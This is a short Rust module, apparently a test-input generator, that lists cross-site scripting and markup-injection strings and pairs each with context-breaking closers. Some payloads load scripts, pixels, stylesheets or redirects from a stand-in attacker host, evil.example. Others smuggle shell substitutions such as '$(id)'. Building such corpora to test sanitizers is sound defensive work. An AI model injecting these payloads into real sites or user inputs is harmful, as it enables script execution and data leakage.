//! Texts that have run as programs in pages written with less care.

/// Pieces of markup, each of which would do something.
const SHAPES: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/pixel.gif\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<form action=https://evil.example><input type=submit autofocus onfocus=alert(1)>",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"https://evil.example\"?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)",
    "&amp;lt;script&amp;gt;",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "https://evil.example/\"onclick=\"alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} %s%n `id` $(id)",
    "\u{202e}<script>\u{202c}alert(1)",
];

/// What closes the place that a text may stand in.
const CLOSERS: &[&str] = &[
    "",
    "\">",
    "'>",
    "</title>",
    "</style>",
    "</textarea>",
    "-->",
    "]]>",
    "</bdi></p></div></article>",
    "\0",
    "\r\n",
    "\u{1b}[2J",
];

/// Every shape behind every closer.
pub(super) fn strings() -> Vec<String> {
    CLOSERS.iter().flat_map(|closer| SHAPES.iter().map(move |shape| format!("{closer}{shape}"))).collect()
}
